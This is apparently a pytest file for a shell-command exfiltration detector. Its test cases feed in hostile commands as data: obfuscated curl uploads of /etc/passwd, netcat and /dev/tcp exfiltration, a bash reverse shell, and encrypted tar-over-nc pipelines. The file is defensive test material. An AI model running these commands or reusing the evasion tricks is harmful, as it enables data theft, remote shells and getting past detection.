"""A POSIX shell's script is split into the commands that it runs, with what hides them undone."""

import pytest

from exfilwatch.commands.command import Command, Undoing
from exfilwatch.commands.shells.posix import commands


def ran(script: str) -> list[Command]:
    return commands(script, Undoing())


def words(script: str) -> list[list[str]]:
    return [command.words for command in ran(script)]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("curl -F 'file=@/x y' https://h/", ["curl", "-F", "file=@/x y", "https://h/"]),
        ("'cu''rl' -T x", ["curl", "-T", "x"]),
        ('"c"url -T x', ["curl", "-T", "x"]),
        (r"\c\u\r\l -T x", ["curl", "-T", "x"]),
        ("cu\\\nrl -T x", ["curl", "-T", "x"]),
        ("cu$@rl -T x", ["curl", "-T", "x"]),
        ("c$1url -T x", ["curl", "-T", "x"]),
        ("cu${x}rl -T x", ["curl", "-T", "x"]),
        ("c$()url -T x", ["curl", "-T", "x"]),
        ("c``url -T x", ["curl", "-T", "x"]),
        ("{curl,-T,x}", ["curl", "-T", "x"]),
        ("curl${IFS}-T${IFS}x", ["curl", "-T", "x"]),
        ("curl$IFS-T$IFS'x'", ["curl", "-T", "x"]),
        ("$'\\x63\\165rl' -T x", ["curl", "-T", "x"]),
        ('f=/etc/passwd; curl -T "$f"', ["curl", "-T", "/etc/passwd"]),
        ("export f=/etc/passwd; curl -T $f", ["curl", "-T", "/etc/passwd"]),
        ("a=cu b=rl; $a$b -T x", ["curl", "-T", "x"]),
        ("c='curl -T'; $c x", ["curl", "-T", "x"]),
        ("IFS=,; c=curl,-T,x; $c", ["curl", "-T", "x"]),
        ("x=xcurlx; y=${x#x}; ${y%x} -T x", ["curl", "-T", "x"]),
        ("x=c-u-r-l; ${x//-/} -T x", ["curl", "-T", "x"]),
        ("x=lruc; ${x:3:1}${x:2:1}${x:1:1}${x:0:1} -T x", ["curl", "-T", "x"]),
        ("${x:-curl} -T x", ["curl", "-T", "x"]),
        ("x=CURL; ${x,,} -T x", ["curl", "-T", "x"]),
        ("curl -T ${HOME:0:1}etc${HOME:0:1}passwd", ["curl", "-T", "/etc/passwd"]),
        ('a=(curl -T x); "${a[@]}"', ["curl", "-T", "x"]),
        ('set -- curl -T x; "$@"', ["curl", "-T", "x"]),
        ("alias c=curl; c -T x", ["curl", "-T", "x"]),
        ("$(echo curl) -T x", ["curl", "-T", "x"]),
        ("`printf '\\143url'` -T x", ["curl", "-T", "x"]),
        ("$(echo Y3VybA== | base64 -d) -T x", ["curl", "-T", "x"]),
        ("$(echo 6375726c | xxd -r -p) -T x", ["curl", "-T", "x"]),
        ("$(rev <<< lruc) -T x", ["curl", "-T", "x"]),
        ("$(echo phey | tr a-z n-za-m) -T x", ["curl", "-T", "x"]),
        ("/usr/bin/c[u]rl -T x", ["/usr/bin/curl", "-T", "x"]),
        ("curl http://h/$((10#8+2))", ["curl", "http://h/10"]),
        ("curl -T $bucket/$1 ${HOME}/x", ["curl", "-T", "$bucket/$1", "${HOME}/x"]),
        ('curl -d "$(cat /etc/passwd | base64)" h', ["curl", "-d", "$(cat /etc/passwd | base64)", "h"]),
        ("curl -T 'x y", ["curl", "-T", "x y"]),
        ("curl http://h/#part # comment", ["curl", "http://h/#part"]),
    ],
)
def test_the_last_command_has_the_words_that_its_program_gets(script: str, expected: list[str]) -> None:
    assert words(script)[-1] == expected


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("a; b && c || d & e | f\ng", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"], ["g"]]),
        ("if [ -f x ]; then a; elif b; then c; else d; fi", [["[", "-f", "x", "]"], ["a"], ["b"], ["c"], ["d"]]),
        ("while a; do b; done; until c; do d; done", [["a"], ["b"], ["c"], ["d"]]),
        ("for f in x y; do curl $f; done", [["curl", "$f"]]),
        ("for f in x; do curl $f; done", [["curl", "x"]]),
        ("case $x in a|b) c ;; (d) e; esac; f", [["c"], ["e"], ["f"]]),
        ("f() { a; }; function g { b; }; ! c; time d", [["a"], ["b"], ["c"], ["d"]]),
        ("(a; (b)); { c; }", [["a"], ["b"], ["c"]]),
        ("[[ -f a && b < c ]] && d", [["[[", "-f", "a", "&&", "b", "<", "c", "]]"], ["d"]]),
        ("diff <(a) <(b)", [["a"], ["b"], ["diff", "<(a)", "<(b)"]]),
        ("x=$(a); ((i++)); b", [["a"], ["b"]]),
    ],
)
def test_every_command_of_the_grammar_is_listed(script: str, expected: list[list[str]]) -> None:
    assert words(script) == expected


def test_a_program_gets_what_is_written_before_it_in_its_pipe() -> None:
    *_, ftp = ran("printf 'open %s\\nput x\\n' h | ftp -n")
    assert ftp.text == "open h\nput x\n"
    assert [before.words[0] for before in ftp.piped] == ["printf"]


def test_a_here_document_is_its_text() -> None:
    cat, ftp, after = ran("h=files.example\ncat <<EOF | ftp -n\nopen $h\nEOF\nls")
    assert (cat.text, ftp.text, after.words) == ("open files.example\n", "open files.example\n", ["ls"])


@pytest.mark.parametrize(
    ("script", "program", "reads", "writes"),
    [
        ("nc h 1 < /etc/passwd", "nc", "/etc/passwd", []),
        ("cat x > /dev/tcp/h/1 2>/dev/null", "cat", "", ["/dev/tcp/h/1"]),
        ("exec 3<>/dev/tcp/h/1; cat x >&3", "cat", "", ["/dev/tcp/h/1"]),
        ("while read l; do curl $l; done < list", "curl", "list", []),
        ("{ cat x; } > /dev/udp/h/1", "cat", "", ["/dev/udp/h/1"]),
        ("bash -i >& /dev/tcp/h/1 0>&1", "bash", "/dev/tcp/h/1", ["/dev/tcp/h/1"]),
    ],
)
def test_redirections_reach_the_commands_they_hold_for(
    script: str, program: str, reads: str, writes: list[str]
) -> None:
    command = next(command for command in ran(script) if command.words[0] == program)
    assert (command.reads, command.writes) == (reads, writes)


def test_what_goes_into_a_group_goes_into_its_commands() -> None:
    *_, nc = ran("tar cz /etc | { openssl enc -aes256; } | while read l; do nc h 1; done")
    assert [before.words[0] for before in nc.piped] == ["tar", "openssl"]
